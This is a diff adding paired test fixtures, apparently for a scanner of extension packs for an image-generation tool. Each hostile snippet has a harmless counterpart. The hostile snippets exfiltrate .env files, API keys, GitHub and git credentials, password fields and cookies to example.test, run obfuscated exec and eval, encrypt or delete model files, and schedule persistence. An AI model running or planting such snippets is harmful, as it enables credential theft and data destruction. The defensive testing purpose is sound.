@@ -106,3 +106,92 @@ export const libraryAttacks: Attack[] = [
     'const r = indexedDB.open("my-pack"); r.onsuccess = () => { const s = r.result.transaction("a").objectStore("a").getAll(); s.onsuccess = () => show(s.result) }',
   ),
 ]
+
+/** Attacks through programs, endpoints and elements that look like everyday ones. */
+export const everydayAttacks: Attack[] = [
+  python(
+    'unpacks the archive of a foreign repository over itself',
+    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(f"git archive --remote=https://example.test/r.git HEAD | tar -x -C {here}", shell=True)',
+    'import subprocess, os\nhere = os.path.dirname(__file__)\nsubprocess.run(f"git -C {here} archive HEAD | tar -t", shell=True)',
+  ),
+  python(
+    'evaluates a part of each prompt',
+    'from server import PromptServer\ndef handle(data):\n    eval(data["extra_data"]["x"])\n    return data\nPromptServer.instance.add_on_prompt_handler(handle)',
+    'from server import PromptServer\ndef handle(data):\n    print(data["extra_data"]["x"])\n    return data\nPromptServer.instance.add_on_prompt_handler(handle)',
+  ),
+  python(
+    'writes a short program in escapes',
+    String.raw`exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73\x2e\x6b\x69\x6c\x6c")`,
+    String.raw`exec("import os # \x69")`,
+  ),
+  python(
+    'writes a program as one number',
+    'n = 112762377163273\nexec(n.to_bytes(8, "big").decode())',
+    'n = 112762377163273\nprint(n.to_bytes(8, "big"))',
+  ),
+  python(
+    'collects the secrets of all packs',
+    'import pathlib, requests, folder_paths\nfor p in pathlib.Path(folder_paths.base_path).rglob(".env"):\n    requests.post("https://example.test/e", data=p.read_text())',
+    'import pathlib, requests\nfor p in (pathlib.Path(__file__).parent / "presets").rglob("*.json"):\n    requests.post("https://example.test/e", data=p.read_text())',
+  ),
+  python(
+    'searches all objects of the process for keys',
+    'import gc, requests\nfor one in gc.get_objects():\n    if isinstance(one, dict) and "api_key" in one:\n        requests.post("https://example.test/k", json={"k": one["api_key"]})',
+    'import gc, requests\nrequests.post("https://example.test/k", json={"k": len(gc.get_objects())})',
+  ),
+  python(
+    'watches the variables of all functions',
+    'import sys, requests\ndef watch(frame, event, arg):\n    requests.post("https://example.test", data=str(frame.f_locals))\n    return watch\nsys.settrace(watch)',
+    'import sys\ndef watch(frame, event, arg):\n    print(frame.f_lineno)\n    return watch\nsys.settrace(watch)',
+  ),
+  python(
+    'reads the history from the tool’s server and sends it on',
+    'import requests\nhistory = requests.get("http://127.0.0.1:8188/history").json()\nrequests.post("https://example.test/h", json=history)',
+    'import requests\nstats = requests.get("http://127.0.0.1:8188/system_stats").json()\nrequests.post("https://example.test/h", json=stats)',
+  ),
+  python(
+    'asks a program for the user’s token',
+    'import subprocess, requests\ntoken = subprocess.check_output(["gh", "auth", "token"]).decode()\nrequests.post("https://example.test", json={"t": token})',
+    'import subprocess, requests\nversion = subprocess.check_output(["gh", "--version"]).decode()\nrequests.post("https://example.test", json={"v": version})',
+  ),
+  python(
+    'asks git for stored passwords',
+    'import subprocess, requests\nr = subprocess.run(["git", "credential", "fill"], input="host=github.com", text=True, capture_output=True)\nrequests.post("https://example.test", data=r.stdout)',
+    'import subprocess, requests\nr = subprocess.run(["git", "--version"], text=True, capture_output=True)\nrequests.post("https://example.test", data=r.stdout)',
+  ),
+  python(
+    'encrypts the models with a program',
+    'import subprocess, folder_paths\nsubprocess.run(f"find {folder_paths.models_dir} -type f -exec openssl enc -aes-256-cbc -k x -in {{}} -out {{}}.enc ; -delete", shell=True)',
+    'import subprocess, folder_paths\nsubprocess.run(f"find {folder_paths.models_dir} -type f -name x.ckpt", shell=True)',
+  ),
+  python(
+    'deletes the checkpoints with a command',
+    'import os, folder_paths\nos.system(f"rm -rf {folder_paths.models_dir}/checkpoints/*")',
+    'import os, folder_paths\nos.system(f"ls {folder_paths.models_dir}/checkpoints/*")',
+  ),
+  python(
+    'lets the system start a program every hour',
+    'import subprocess\nsubprocess.run(["systemd-run", "--user", "--on-calendar=hourly", "/tmp/x"])',
+    'import subprocess\nsubprocess.run(["systemctl", "--version"])',
+  ),
+  script(
+    'sends the results of every node to a stranger',
+    `${app}app.registerExtension({ name: "a", beforeRegisterNodeDef(type) { const old = type.prototype.onExecuted; type.prototype.onExecuted = function (message) { fetch("https://example.test/o", { method: "POST", body: JSON.stringify(message) }); return old?.apply(this, arguments) } } })`,
+    `${app}app.registerExtension({ name: "a", beforeRegisterNodeDef(type) { const old = type.prototype.onExecuted; type.prototype.onExecuted = function (message) { show(message); return old?.apply(this, arguments) } } })`,
+  ),
+  script(
+    'reads the fields for passwords',
+    'setInterval(() => { for (const field of document.querySelectorAll("input[type=password]")) navigator.sendBeacon("https://example.test/p", field.value) }, 2000)',
+    'setInterval(() => { for (const field of document.querySelectorAll("input.mypack-query")) navigator.sendBeacon("https://example.test/p", field.value) }, 2000)',
+  ),
+  script(
+    'submits cookies in a form',
+    'const f = document.createElement("form"); f.action = "https://example.test/f"; const i = document.createElement("input"); i.value = document.cookie; f.append(i); document.body.append(f); f.submit()',
+    'const f = document.createElement("form"); f.action = "https://example.test/f"; const i = document.createElement("input"); i.value = "upscale"; f.append(i); document.body.append(f); f.submit()',
+  ),
+  script(
+    'hands the workflow to a foreign frame',
+    `${app}const f = document.createElement("iframe"); f.src = "https://example.test/c"; document.body.append(f); f.onload = async () => f.contentWindow.postMessage(await app.graphToPrompt(), "*")`,
+    `${app}const f = document.createElement("iframe"); f.src = "/extensions/x/c.html"; document.body.append(f); f.onload = async () => f.contentWindow.postMessage(await app.graphToPrompt(), "*")`,
+  ),
+]
